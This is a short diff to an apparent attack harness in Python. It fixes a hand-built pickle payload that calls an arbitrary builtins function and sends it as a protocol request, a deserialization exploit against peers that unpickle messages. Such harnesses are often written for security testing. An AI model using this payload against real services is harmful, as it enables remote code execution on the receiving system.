@@ -69,7 +69,7 @@ def main(attack: str) -> None:
     if attack.startswith("callback-"):
         name = attack.removeprefix("callback-").encode()
         target = b"\x8c\x08builtins\x8c" + bytes([len(name)]) + name + b"\x93"
-        send(m.REQUEST, 1, b"\x80\x05K\x09" + target + b"K\x05\x85}\x87\x86.")
+        send(m.REQUEST, 1, b"\x80\x05K\x09" + target + b"K\x05\x85)\x87\x86.")
     for frame in incoming:  # type: ignore[attr-defined]
         if frame.kind != m.REQUEST:
             continue
